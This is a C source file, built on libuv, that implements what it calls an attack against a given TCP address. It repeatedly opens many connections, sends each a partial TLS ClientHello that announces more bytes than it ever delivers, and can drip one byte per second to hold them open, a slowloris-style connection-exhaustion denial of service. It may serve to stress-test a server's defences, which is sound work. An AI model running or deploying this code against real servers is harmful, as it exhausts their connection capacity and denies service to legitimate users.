#include "attack_raw.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

enum { DIAL_EVERY_MS = 20, DIAL_AT_ONCE = 64, SECOND_MS = 1000 };

struct raw_peer {
    struct raw_crowd *crowd;
    uv_tcp_t tcp;
    uv_connect_t connect;
    bool open, connected;
    char sink[256];
};

struct raw_crowd {
    uv_loop_t *loop;
    struct sockaddr_storage address;
    int count;
    bool every_second, stopping;
    uint64_t closed;
    uv_timer_t dial, drip;
    struct raw_peer *peers;
};

/* The beginning of a ClientHello that announces more than ever comes. */
static const uint8_t greeting[] = {0x16, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3};

static void on_closed(uv_handle_t *handle)
{
    struct raw_peer *p = handle->data;
    p->open = false;
}

static void hang_up(struct raw_peer *p)
{
    if (p->open && !uv_is_closing((uv_handle_t *)&p->tcp)) {
        p->connected = false;
        p->crowd->closed++;
        uv_close((uv_handle_t *)&p->tcp, on_closed);
    }
}

static void on_alloc(uv_handle_t *handle, size_t suggested, uv_buf_t *out)
{
    struct raw_peer *p = handle->data;
    (void)suggested;
    *out = uv_buf_init(p->sink, sizeof p->sink);
}

static void on_read(uv_stream_t *stream, ssize_t got, const uv_buf_t *buffer)
{
    (void)buffer;
    if (got < 0)
        hang_up(stream->data);
}

static void say(struct raw_peer *p, const uint8_t *bytes, size_t size)
{
    uv_buf_t buffer = uv_buf_init((char *)bytes, (unsigned)size);
    if (uv_try_write((uv_stream_t *)&p->tcp, &buffer, 1) < 0)
        hang_up(p);
}

static void on_connected(uv_connect_t *request, int status)
{
    struct raw_peer *p = request->data;
    if (status < 0 || p->crowd->stopping) {
        hang_up(p);
        return;
    }
    p->connected = true;
    uv_read_start((uv_stream_t *)&p->tcp, on_alloc, on_read);
    say(p, greeting, sizeof greeting);
}

static void dial(struct raw_peer *p)
{
    if (uv_tcp_init(p->crowd->loop, &p->tcp) != 0)
        return;
    p->open = true;
    p->tcp.data = p->connect.data = p;
    if (uv_tcp_connect(&p->connect, &p->tcp, (struct sockaddr *)&p->crowd->address, on_connected))
        hang_up(p);
}

static void on_dial(uv_timer_t *timer)
{
    struct raw_crowd *c = timer->data;
    for (int i = 0, dialled = 0; i < c->count && dialled < DIAL_AT_ONCE; i++) {
        if (c->peers[i].open)
            continue;
        dial(&c->peers[i]);
        dialled++;
    }
}

static void on_drip(uv_timer_t *timer)
{
    struct raw_crowd *c = timer->data;
    for (int i = 0; i < c->count; i++)
        if (c->peers[i].connected)
            say(&c->peers[i], (const uint8_t *)"", 1);
}

struct raw_crowd *raw_crowd_start(uv_loop_t *loop, const char *address, int count,
                                  bool every_second)
{
    struct raw_crowd *c = calloc(1, sizeof *c);
    char host[64];
    const char *colon = strrchr(address, ':');
    if (c == NULL || (c->peers = calloc((size_t)count, sizeof *c->peers)) == NULL)
        die("out of memory");
    snprintf(host, sizeof host, "%.*s", (int)(colon - address), address);
    if (uv_ip4_addr(host, atoi(colon + 1), (struct sockaddr_in *)&c->address) != 0)
        die("%s is no address to attack", address);
    c->loop = loop;
    c->count = count;
    c->every_second = every_second;
    for (int i = 0; i < count; i++)
        c->peers[i].crowd = c;
    uv_timer_init(loop, &c->dial);
    uv_timer_init(loop, &c->drip);
    c->dial.data = c->drip.data = c;
    uv_timer_start(&c->dial, on_dial, 0, DIAL_EVERY_MS);
    if (every_second)
        uv_timer_start(&c->drip, on_drip, SECOND_MS, SECOND_MS);
    return c;
}

uint64_t raw_crowd_closed(const struct raw_crowd *c)
{
    return c->closed;
}

void raw_crowd_stop(struct raw_crowd *c)
{
    c->stopping = true;
    uv_close((uv_handle_t *)&c->dial, NULL);
    uv_close((uv_handle_t *)&c->drip, NULL);
    for (int i = 0; i < c->count; i++)
        hang_up(&c->peers[i]);
}

void raw_crowd_free(struct raw_crowd *c)
{
    free(c->peers);
    free(c);
}
